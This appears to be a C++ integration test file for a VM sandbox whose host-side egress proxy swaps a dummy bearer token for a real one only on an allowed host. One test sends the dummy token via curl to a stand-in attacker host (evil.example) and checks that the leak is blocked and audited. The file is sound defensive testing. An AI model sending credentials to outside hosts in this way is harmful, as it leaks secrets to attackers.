// Egress for smolmachines bottles: bottle-cli against the fake smolvm (1.9.2, which
// can confine a VM to the gateway), a real host-side bottle-egress,
// and a fake HTTPS upstream behind a stand-in parent proxy, all on 127.0.0.1.
// The fake smolvm does not emulate the VM's network: the test plays the guest's
// connection to the gateway 100.96.0.1:PORT as smolvm relays it, to host
// 127.0.0.1:PORT. Token values are test strings; assertions test booleans.
#include <catch2/catch.hpp>

#include <boost/json.hpp>
#include <csignal>
#include <optional>

#include "../unit/temp_dir.hpp"
#include "cli_harness.hpp"
#include "net_harness.hpp"

namespace fs = std::filesystem;
using namespace net_harness;

namespace {

const std::string real_token = "real-smol-token-0001";
const std::string dummy = "dummy-smol-token-0001";

std::string spec_json(const std::string& name, const fs::path& token_file) {
  return boost::json::serialize(boost::json::value{
      {"name", name},
      {"backend", "smolmachines"},
      {"user", "nobody"},
      {"egress",
       {{"routes", boost::json::array{boost::json::object{{"name", "smolapi"},
                                                          {"hosts", boost::json::array{"chatgpt.com"}},
                                                          {"header", "Authorization"},
                                                          {"dummy", dummy},
                                                          {"value_file", token_file.string()}}}}}}});
}

// The fake smolvm runs "guest" commands on the host: the CA bundle that create
// installs at /etc/bottle goes to a private tmpfs, not the host's /etc.
std::vector<std::string> in_private_etc_bottle(std::vector<std::string> argv) {
  std::vector<std::string> wrapped = {
      "unshare", "--mount", "--propagation", "private", "sh", "-c", "mount -t tmpfs tmpfs /etc/bottle && exec \"$@\"",
      "sh"};
  wrapped.insert(wrapped.end(), argv.begin(), argv.end());
  return wrapped;
}

std::string egress_of(IntegrationHome& home, const std::string& name) {
  const auto rows = boost::json::parse(home.cli({"ls", "--json"}).out).as_array();
  for (const auto& row : rows)
    if (row.at("name") == name.c_str()) return std::string(row.at("egress").as_string());
  return "<no row>";
}

// The HTTP status of a request with the dummy, sent as the guest sends it: to the
// gateway, which smolvm relays to host 127.0.0.1:PORT.
// The status of GET `url` through egress, sending the dummy unless `with_dummy` is false.
std::string status_through(std::uint16_t egress_port, const fs::path& egress_ca, const std::string& url,
                           bool with_dummy = true) {
  std::vector<std::string> argv = {"curl",       "-sS",
                                   "--max-time", "20",
                                   "--noproxy",  "",
                                   "--proxy",    "http://127.0.0.1:" + std::to_string(egress_port),
                                   "--cacert",   egress_ca.string(),
                                   "-o",         "/dev/null",
                                   "-w",         "%{http_code}"};
  if (with_dummy) argv.insert(argv.end(), {"-H", "Authorization: Bearer " + dummy});
  argv.push_back(url);
  return run(argv).out;
}

std::uint16_t egress_port_of(IntegrationHome& home, const std::string& name) {
  const auto shown = boost::json::parse(home.cli({"config", "show", name}).out);
  return static_cast<std::uint16_t>(shown.at("egress").at("port").as_int64());
}

pid_t pid_in(const fs::path& pid_file) {
  const std::string text = read_file(pid_file);
  return text.empty() ? 0 : static_cast<pid_t>(std::stol(text));
}

}  // namespace

TEST_CASE("smolmachines egress: a host-side bottle-egress is the bottle's only way out",
          "[smolmachines][egress][integration]") {
  FakeNet net;
  const auto parent = net.parent_port;
  const fs::path token_file = net.path("token");
  write_file(token_file, real_token + "\n");

  IntegrationHome home;
  home.use_fake_smolvm("1.9.2");
  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://127.0.0.1:" + std::to_string(parent);
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = net.path("ca.pem").string();
  const std::string name = unique_bottle_name("it-smolegress");
  write_file(home.path() / "spec.json", spec_json(name, token_file));
  fs::create_directories("/etc/bottle");  // the private tmpfs's mount point

  // The fake keeps a --net machine in the host's network namespace (it has no NIC to
  // give it), where the host and the internet answer: the start canaries cannot judge
  // it, so this test's starts skip them. A real VM is checked.
  auto r = home.run(in_private_etc_bottle(
      {test_paths::bottle_cli, "create", "--no-check", "--spec", (home.path() / "spec.json").string()}));
  INFO(r.err);
  REQUIRE(r.ok());

  // The stored spec keeps the port picked at create; the VM may reach only the gateway.
  const auto port = egress_port_of(home, name);
  CHECK(port != 0);
  const std::string fake_log = read_file(home.path() / "fake.log");
  CHECK(contains(fake_log, R"("--net","--net-backend","virtio-net","--allow-cidr","100.96.0.1/32")"));
  r = home.cli({"exec", name, "--", "sh", "-c", "echo \"$HTTPS_PROXY $NO_PROXY\""});
  CHECK(r.out == "http://100.96.0.1:" + std::to_string(port) + " localhost,127.0.0.1,::1\n");

  // egress runs, supervised, on loopback only; its argv has no secret.
  const fs::path pid_file = home.find_file("bottle-egress.pid");
  REQUIRE_FALSE(pid_file.empty());
  const pid_t egress_pid = pid_in(pid_file);
  CHECK(read_file("/proc/" + std::to_string(egress_pid) + "/comm") == "bottle-egress\n");
  const std::string cmdline = read_file("/proc/" + std::to_string(egress_pid) + "/cmdline");
  CHECK(contains(cmdline, std::string("--listen") + '\0' + "127.0.0.1:" + std::to_string(port) + '\0'));
  CHECK_FALSE(contains(cmdline, real_token));
  CHECK(egress_of(home, name) == "on");

  // What the guest sends to the gateway: the dummy is swapped on its bound host and
  // blocked anywhere else.
  const fs::path egress_ca = home.find_file("mitmproxy-ca-cert.pem");
  REQUIRE_FALSE(egress_ca.empty());
  const auto curl = [&](const std::string& url) { return status_through(port, egress_ca, url); };
  CHECK(curl("https://chatgpt.com/smol-swap") == "200");
  CHECK(curl("https://evil.example/smol-leak") == "403");
  const std::string upstream = read_file(net.path("upstream.log"));
  CHECK(contains(upstream, "\"Bearer " + real_token + "\""));
  CHECK_FALSE(contains(upstream, "/smol-leak"));
  CHECK_FALSE(contains(upstream, dummy));

  // The host-side egress wrote its audit log into the bottle's state directory.
  const auto logs = [&] { return home.cli({"logs", "--json", name}).out; };
  CHECK(wait_until([&] { return contains(logs(), "/smol-leak"); }, 20s));
  const std::string audit = logs();
  CHECK(contains(audit, R"("action":"injected","bottle":")" + name + "\""));
  CHECK(contains(audit, R"("host":"chatgpt.com","method":"GET","path":"/smol-swap","port":443,)"));
  CHECK(contains(audit, R"("action":"blocked","bottle":")" + name + "\""));
  CHECK(contains(audit, R"("path":"/smol-leak","port":443,"reason":"dummy sent to unbound host")"));
  CHECK_FALSE(contains(audit, real_token));
  CHECK_FALSE(contains(audit, dummy));

  // stop takes egress down with the VM.
  r = home.cli({"stop", name});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK(wait_until([&] { return !port_open(port); }, 10s));
  CHECK(::kill(egress_pid, 0) != 0);
  CHECK(egress_of(home, name) == "down");

  // Someone else listening on the bottle's port: start refuses (exit 6), the VM stays down.
  {
    const int squatter = ::socket(AF_INET, SOCK_STREAM, 0);
    // As egress itself binds: its connections still in TIME_WAIT must not block the squatter.
    const int on = 1;
    ::setsockopt(squatter, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    auto address = loopback(port);
    REQUIRE(::bind(squatter, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0);
    REQUIRE(::listen(squatter, 1) == 0);
    r = home.cli({"start", name});
    ::close(squatter);
    CHECK(r.code == 6);
    CHECK(contains(r.err, "in use by another process"));
    CHECK(contains(home.cli({"ls", "--json"}).out, "\"state\":\"stopped\""));
  }

  r = home.run(in_private_etc_bottle({test_paths::bottle_cli, "start", "--no-check", name}));
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK(egress_of(home, name) == "on");
  CHECK(curl("https://chatgpt.com/smol-after-restart") == "200");

  r = home.cli({"rm", "--force", name});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK(wait_until([&] { return !port_open(port); }, 10s));
  CHECK(home.cli({"ls", "--json"}).out == "[]\n");
}

TEST_CASE("smolmachines egress: an smolvm that cannot confine the VM gets no bottle that needs egress",
          "[smolmachines][egress][integration]") {
  for (const std::string version : {"0.8.0", "1.0.2"}) {
    DYNAMIC_SECTION("smolvm " << version) {
      TempDir host;
      IntegrationHome home;
      home.use_fake_smolvm(version);
      const std::string name = unique_bottle_name("it-smolold");
      write_file(home.path() / "spec.json", spec_json(name, host.path() / "token"));
      const auto r = home.cli({"create", "--spec", (home.path() / "spec.json").string()});
      CHECK(r.code == 6);
      CHECK(contains(r.err, "smolvm " + version + " cannot confine a VM's network to egress"));
      CHECK(home.cli({"ls", "--json"}).out == "[]\n");
      CHECK(home.find_file("bottle-egress.pid").empty());
    }
  }
}

TEST_CASE("smolmachines egress: with pipelock installed, bottle runs it as egress's parent proxy",
          "[smolmachines][egress][pipelock][integration]") {
  FakeNet net;
  const fs::path token_file = net.path("token");
  write_file(token_file, real_token + "\n");
  IntegrationHome home;
  home.use_fake_smolvm("1.9.2");
  home.install_on_path("pipelock", test_paths::fake_pipelock);
  home.env()["FAKE_PIPELOCK_UPSTREAM"] = "127.0.0.1:" + std::to_string(net.upstream_port);
  home.env()["FAKE_PIPELOCK_LOG"] = net.path("pipelock.log").string();
  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = net.path("ca.pem").string();
  const std::string name = unique_bottle_name("it-smolpl");
  write_file(home.path() / "spec.json", spec_json(name, token_file));
  fs::create_directories("/etc/bottle");

  // The fake keeps a --net machine in the host's network namespace (it has no NIC to
  // give it), where the host and the internet answer: the start canaries cannot judge
  // it, so this test's starts skip them. A real VM is checked.
  auto r = home.run(in_private_etc_bottle(
      {test_paths::bottle_cli, "create", "--no-check", "--spec", (home.path() / "spec.json").string()}));
  INFO(r.err);
  REQUIRE(r.ok());

  // pipelock runs with the bottle's config, on loopback, supervised.
  const fs::path pid_file = home.find_file("pipelock.pid");
  REQUIRE_FALSE(pid_file.empty());
  const pid_t pipelock_pid = pid_in(pid_file);
  CHECK(read_file("/proc/" + std::to_string(pipelock_pid) + "/comm") == "pipelock\n");
  const fs::path config = pid_file.parent_path() / "pipelock.yaml";
  CHECK(run({test_paths::fake_pipelock, "check", "--config", config.string()}).ok());
  CHECK(home.cli({"render", "pipelock", name}).out == read_file(config));  // what it runs with
  const std::string listen = read_file(pid_file.parent_path() / "listen");
  CHECK(listen.rfind("127.0.0.1:", 0) == 0);

  // egress -> pipelock -> upstream: the allowed, bound host gets the real token;
  // pipelock refuses a host off the allowlist, so it never reaches upstream. (With the
  // dummy, egress itself would block the request before any connection.)
  const auto port = egress_port_of(home, name);
  const fs::path egress_ca = home.find_file("mitmproxy-ca-cert.pem");
  CHECK(status_through(port, egress_ca, "https://chatgpt.com/pl-swap") == "200");
  CHECK(status_through(port, egress_ca, "https://broken.example/pl-off-allowlist", false) == "403");
  const std::string pipelock_log = read_file(net.path("pipelock.log"));
  CHECK(contains(pipelock_log, "CONNECT chatgpt.com:443"));
  CHECK(contains(pipelock_log, "CONNECT broken.example:443"));
  const std::string upstream = read_file(net.path("upstream.log"));
  CHECK(contains(upstream, "\"Bearer " + real_token + "\""));
  CHECK_FALSE(contains(upstream, "/pl-off-allowlist"));
  CHECK(read_file(net.path("parent.log")).empty());  // nothing bypassed pipelock

  // stop takes pipelock down too; a pipelock that cannot serve keeps the bottle down.
  r = home.cli({"stop", name});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK(wait_until([&] { return ::kill(pipelock_pid, 0) != 0; }, 10s));
  const std::string upstream_env = home.env()["FAKE_PIPELOCK_UPSTREAM"];
  home.env().erase("FAKE_PIPELOCK_UPSTREAM");  // the fake's run then exits at once
  r = home.cli({"start", name});
  CHECK(r.code == 6);
  CHECK(contains(r.err, "pipelock for " + name + " did not become healthy"));
  CHECK(contains(home.cli({"ls", "--json"}).out, "\"state\":\"stopped\""));
  CHECK_FALSE(port_open(port));  // egress was not started either

  home.env()["FAKE_PIPELOCK_UPSTREAM"] = upstream_env;
  r = home.run(in_private_etc_bottle({test_paths::bottle_cli, "start", "--no-check", name}));
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK(status_through(port, egress_ca, "https://chatgpt.com/pl-after-restart") == "200");
  const pid_t restarted = pid_in(pid_file);
  r = home.cli({"rm", "--force", name});
  INFO(r.err);
  REQUIRE(r.ok());
  CHECK(wait_until([&] { return ::kill(restarted, 0) != 0 && !port_open(port); }, 10s));
}
